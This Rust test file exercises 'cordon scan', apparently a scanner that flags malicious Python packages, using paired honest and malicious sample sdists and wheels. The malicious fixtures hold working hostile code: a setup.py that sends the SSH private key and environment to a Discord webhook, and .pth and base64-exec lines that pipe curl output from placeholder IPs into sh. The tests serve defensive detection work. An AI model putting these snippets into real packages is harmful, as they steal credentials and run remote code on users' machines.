//! `cordon scan` end to end: tiny look-alike packages built by the tests (real malware never
//! enters the repository), honest and malicious in pairs, scanned by the real binary.

use std::path::{Path, PathBuf};

use serde_json::Value;

use crate::harness::{
    IndexServer, PackageSpec, VersionSpec, build_sdist_with, build_wheel_with, uv_env,
};

/// `cordon scan <args> --format json`: exit code and the parsed report.
fn scan(dir: &Path, args: &[&str], env: &[(&str, &std::ffi::OsStr)]) -> (i32, Value, String) {
    let out = assert_cmd::Command::cargo_bin("cordon")
        .unwrap()
        .current_dir(dir)
        .env_clear()
        .env("HOME", dir)
        .env("CORDON_CACHE_DIR", dir.join("cache"))
        .envs(env.iter().map(|(k, v)| (*k, *v)))
        .args(["scan", "--format", "json", "--no-progress"])
        .args(args)
        .output()
        .unwrap();
    let stdout = String::from_utf8(out.stdout).unwrap();
    let stderr = String::from_utf8(out.stderr).unwrap();
    assert!(!stderr.contains("panicked"), "{stderr}");
    let json: Value = serde_json::from_str(&stdout)
        .unwrap_or_else(|e| panic!("{e}\n--- stdout\n{stdout}\n--- stderr\n{stderr}"));
    (out.status.code().unwrap(), json, stderr)
}

fn write(dir: &Path, name: &str, bytes: &[u8]) -> PathBuf {
    let p = dir.join(name);
    std::fs::create_dir_all(p.parent().unwrap()).unwrap();
    std::fs::write(&p, bytes).unwrap();
    p
}

/// The verdict of the artifact whose path ends with `suffix`.
fn verdict<'a>(report: &'a Value, suffix: &str) -> &'a Value {
    report["artifacts"]
        .as_array()
        .unwrap()
        .iter()
        .find(|a| a["path"].as_str().unwrap().ends_with(suffix))
        .unwrap_or_else(|| panic!("no artifact {suffix} in {report:#}"))
}

const HONEST_SETUP: &str = "from setuptools import setup, find_packages\n\
with open('README.md') as f:\n    long_description = f.read()\n\
setup(name='tidy', version='1.0', packages=find_packages(), long_description=long_description)\n";

const STEALER_SETUP: &str = "import os, json, urllib.request\n\
from setuptools import setup\n\
def _collect():\n\
    key = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n\
    body = json.dumps({'content': key, 'env': dict(os.environ)}).encode()\n\
    urllib.request.urlopen('https://discord.com/api/webhooks/123/abc', data=body)\n\
try:\n    _collect()\nexcept Exception:\n    pass\n\
setup(name='tidy', version='1.0')\n";

#[test]
fn an_honest_sdist_is_clean_and_a_stealer_is_malicious() {
    let dir = tempfile::tempdir().unwrap();
    let honest = build_sdist_with(
        "tidy",
        "1.0",
        &[],
        &[
            ("setup.py", HONEST_SETUP.as_bytes()),
            ("README.md", b"# tidy\n"),
            (
                "tidy/__init__.py",
                b"import requests\ndef get(u):\n    return requests.get(u).json()\n",
            ),
        ],
    );
    let evil = build_sdist_with(
        "tidy",
        "1.0",
        &[],
        &[("setup.py", STEALER_SETUP.as_bytes())],
    );
    write(dir.path(), "honest/tidy-1.0.tar.gz", &honest);
    write(dir.path(), "evil/tidy-1.0.tar.gz", &evil);
    let (code, report, _) = scan(
        dir.path(),
        &["honest/tidy-1.0.tar.gz", "evil/tidy-1.0.tar.gz"],
        &[],
    );
    assert_eq!(code, 1);
    let honest = verdict(&report, "honest/tidy-1.0.tar.gz");
    assert_eq!(honest["verdict"], "clean", "{honest:#}");
    let evil = verdict(&report, "evil/tidy-1.0.tar.gz");
    assert_eq!(evil["verdict"], "malicious", "{evil:#}");
    assert_eq!(evil["name"], "tidy");
    assert!(evil["score"].as_u64().unwrap() >= 80);
    assert!(!evil["reasons"].as_array().unwrap().is_empty());
    // Evidence points into the member, with a line and a safe snippet.
    let f = evil["findings"]
        .as_array()
        .unwrap()
        .iter()
        .find(|f| f["location"]["member"] == "tidy-1.0/setup.py" && f["location"]["line"] == 4)
        .unwrap_or_else(|| panic!("no finding at setup.py:4 in {evil:#}"));
    assert!(f["snippet"].as_str().unwrap().contains("id_rsa"), "{f:#}");
}

#[test]
fn scanning_runs_nothing() {
    let dir = tempfile::tempdir().unwrap();
    let marker = dir.path().join("ran");
    let setup = format!(
        "open({:?}, 'w').write('setup.py ran')\nfrom setuptools import setup\nsetup(name='x', version='1')\n",
        marker.display().to_string()
    );
    let sdist = build_sdist_with("x", "1", &[], &[("setup.py", setup.as_bytes())]);
    write(dir.path(), "x-1.tar.gz", &sdist);
    let pth = format!("import os; open({:?}, 'w')\n", marker.display().to_string());
    let wheel = build_wheel_with("y", "1", &[], &[("y.pth", pth.as_bytes())]);
    write(dir.path(), "y-1-py3-none-any.whl", &wheel);
    let (_, report, _) = scan(dir.path(), &["x-1.tar.gz", "y-1-py3-none-any.whl"], &[]);
    assert_eq!(report["artifacts"].as_array().unwrap().len(), 2);
    assert!(!marker.exists(), "scanning executed package code");
}

#[test]
fn a_pth_that_reaches_out_is_malicious_and_a_path_pth_is_not() {
    let dir = tempfile::tempdir().unwrap();
    let evil = build_wheel_with(
        "helper",
        "0.1",
        &[],
        &[(
            "helper_init.pth",
            b"import os; os.system('curl -s http://203.0.113.9/x.sh | sh')\n",
        )],
    );
    let honest = build_wheel_with("plain", "0.1", &[], &[("plain.pth", b"./src\n")]);
    write(dir.path(), "helper-0.1-py3-none-any.whl", &evil);
    write(dir.path(), "plain-0.1-py3-none-any.whl", &honest);
    let (_, report, _) = scan(
        dir.path(),
        &["helper-0.1-py3-none-any.whl", "plain-0.1-py3-none-any.whl"],
        &[],
    );
    assert_eq!(
        verdict(&report, "helper-0.1-py3-none-any.whl")["verdict"],
        "malicious"
    );
    assert_eq!(
        verdict(&report, "plain-0.1-py3-none-any.whl")["verdict"],
        "clean"
    );
}

#[test]
fn decoded_payloads_are_scanned_in_turn() {
    let dir = tempfile::tempdir().unwrap();
    // base64 of: import os;os.system('curl http://198.51.100.7/p | sh')
    let payload = "aW1wb3J0IG9zO29zLnN5c3RlbSgnY3VybCBodHRwOi8vMTk4LjUxLjEwMC43L3AgfCBzaCcp";
    let init = format!("import base64\nexec(base64.b64decode('{payload}'))\n");
    let wheel = build_wheel_with(
        "colours",
        "2.0",
        &[],
        &[("colours/__init__.py", init.as_bytes())],
    );
    write(dir.path(), "colours-2.0-py3-none-any.whl", &wheel);
    let (code, report, _) = scan(dir.path(), &["colours-2.0-py3-none-any.whl"], &[]);
    assert_eq!(code, 1);
    let a = verdict(&report, "colours-2.0-py3-none-any.whl");
    assert_eq!(a["verdict"], "malicious", "{a:#}");
}

#[test]
fn folders_and_human_and_sarif_output() {
    let dir = tempfile::tempdir().unwrap();
    write(dir.path(), "proj/setup.py", STEALER_SETUP.as_bytes());
    write(dir.path(), "proj/tidy/__init__.py", b"");
    let (code, report, _) = scan(dir.path(), &["proj"], &[]);
    assert_eq!(code, 1);
    assert_eq!(report["artifacts"][0]["kind"], "directory");
    assert_eq!(report["artifacts"][0]["verdict"], "malicious");
    for format in ["human", "sarif", "github"] {
        let out = assert_cmd::Command::cargo_bin("cordon")
            .unwrap()
            .current_dir(dir.path())
            .args(["scan", "proj", "--no-progress", "--format", format])
            .output()
            .unwrap();
        assert_eq!(out.status.code(), Some(1), "{format}");
        let text = String::from_utf8(out.stdout).unwrap();
        assert!(text.contains("credential-access"), "{format}:\n{text}");
        if format == "human" {
            assert!(text.contains("malicious"), "{text}");
            assert!(text.contains("scanned 1 artifact: 1 malicious"), "{text}");
        }
        if format == "sarif" {
            let _: Value = serde_json::from_str(&text).unwrap();
        }
    }
}

#[test]
fn a_virtual_environment_with_a_stray_pth() {
    let dir = tempfile::tempdir().unwrap();
    let site = "venv/lib/python3.12/site-packages";
    write(
        dir.path(),
        &format!("{site}/tidy/__init__.py"),
        b"VALUE = 1\n",
    );
    write(
        dir.path(),
        &format!("{site}/tidy-1.0.dist-info/METADATA"),
        b"Metadata-Version: 2.1\nName: tidy\nVersion: 1.0\n",
    );
    write(
        dir.path(),
        &format!("{site}/tidy-1.0.dist-info/RECORD"),
        b"tidy/__init__.py,,\ntidy-1.0.dist-info/METADATA,,\ntidy-1.0.dist-info/RECORD,,\n",
    );
    write(
        dir.path(),
        &format!("{site}/zz_startup.pth"),
        b"import os, base64; exec(base64.b64decode('cHJpbnQoMSk='))\n",
    );
    let (code, report, _) = scan(dir.path(), &["--venv", "venv"], &[]);
    assert_eq!(code, 1, "{report:#}");
    let arts = report["artifacts"].as_array().unwrap();
    assert!(
        arts.iter()
            .any(|a| a["name"] == "tidy" && a["verdict"] == "clean"),
        "{report:#}"
    );
    assert!(
        arts.iter()
            .any(|a| a["kind"] == "unlisted" && a["verdict"] == "malicious"),
        "{report:#}"
    );
}

#[test]
fn a_lock_is_scanned_from_its_urls_and_a_hash_mismatch_is_a_finding() {
    let index = IndexServer::start(vec![
        PackageSpec::new(
            "good",
            vec![VersionSpec::new("1.0").uploaded("2026-01-05T10:00:00Z")],
        ),
        PackageSpec::new(
            "bad",
            vec![VersionSpec::new("1.0").uploaded("2026-01-05T10:00:00Z")],
        ),
    ]);
    let dir = tempfile::tempdir().unwrap();
    let project = dir.path().join("project");
    write(
        &project,
        "pyproject.toml",
        b"[project]\nname = \"demo\"\nversion = \"0.1.0\"\nrequires-python = \">=3.11\"\ndependencies = [\"good==1.0\", \"bad==1.0\"]\n",
    );
    crate::harness::lock(&project, &index);
    let env = uv_env(&index);
    let env: Vec<(&str, &std::ffi::OsStr)> = env.iter().map(|(k, v)| (*k, v.as_os_str())).collect();
    let (code, report, stderr) = scan(dir.path(), &["--lock", "project"], &env);
    let arts = report["artifacts"].as_array().unwrap();
    assert_eq!(arts.len(), 2, "{report:#}\n{stderr}");
    assert!(arts.iter().all(|a| a["verdict"] == "clean"), "{report:#}");
    assert_eq!(code, 0);
    // A hash that does not match what the index serves.
    let lock = std::fs::read_to_string(project.join("uv.lock")).unwrap();
    let at = lock.find("good-1.0-py3-none-any.whl").unwrap();
    let hash_at = at + lock[at..].find("sha256:").unwrap() + 7;
    let mut tampered = lock.clone();
    tampered.replace_range(hash_at..hash_at + 4, "0000");
    std::fs::write(project.join("uv.lock"), tampered).unwrap();
    let (code, report, _) = scan(dir.path(), &["--lock", "project"], &env);
    assert_eq!(code, 1);
    let good = report["artifacts"]
        .as_array()
        .unwrap()
        .iter()
        .find(|a| a["path"].as_str().unwrap().contains("good"))
        .unwrap();
    assert!(
        good["findings"]
            .as_array()
            .unwrap()
            .iter()
            .any(|f| f["id"] == "lock-hash-mismatch"),
        "{good:#}"
    );
}

#[test]
fn a_file_shared_by_a_wheel_and_its_sdist_is_judged_the_same_in_both() {
    // The same module in both artifacts: the second is not scanned again, its evidence is
    // reused under its own path, and the verdicts agree.
    let dir = tempfile::tempdir().unwrap();
    let module: &[u8] =
        b"import requests\nexec(requests.get('http://updates.example.com/v').text)\n";
    let wheel = build_wheel_with("tidy", "1.0", &[], &[("tidy/__init__.py", module)]);
    let sdist = build_sdist_with(
        "tidy",
        "1.0",
        &[],
        &[
            ("setup.py", HONEST_SETUP.as_bytes()),
            ("tidy/__init__.py", module),
        ],
    );
    write(dir.path(), "tidy-1.0-py3-none-any.whl", &wheel);
    write(dir.path(), "tidy-1.0.tar.gz", &sdist);
    let (code, report, _) = scan(
        dir.path(),
        &["tidy-1.0-py3-none-any.whl", "tidy-1.0.tar.gz"],
        &[],
    );
    assert_eq!(code, 1);
    for (suffix, member) in [
        ("tidy-1.0-py3-none-any.whl", "tidy/__init__.py"),
        ("tidy-1.0.tar.gz", "tidy-1.0/tidy/__init__.py"),
    ] {
        let a = verdict(&report, suffix);
        assert_eq!(a["verdict"], "malicious", "{a:#}");
        let f = a["findings"]
            .as_array()
            .unwrap()
            .iter()
            .find(|f| f["id"] == "dynamic-exec")
            .unwrap_or_else(|| panic!("no dynamic-exec finding in {a:#}"));
        assert_eq!(f["location"]["member"], member, "{f:#}");
        assert_eq!(f["location"]["line"], 2, "{f:#}");
    }
}

#[test]
fn an_unreadable_input_is_named_once_with_its_cause() {
    let dir = tempfile::tempdir().unwrap();
    let out = assert_cmd::Command::cargo_bin("cordon")
        .unwrap()
        .current_dir(dir.path())
        .args(["scan", "missing-1.0.tar.gz", "--no-progress"])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(2));
    let stderr = String::from_utf8(out.stderr).unwrap();
    assert!(
        stderr.contains("cannot read missing-1.0.tar.gz"),
        "{stderr}"
    );
    assert_eq!(stderr.matches("os error 2").count(), 1, "{stderr}");
}
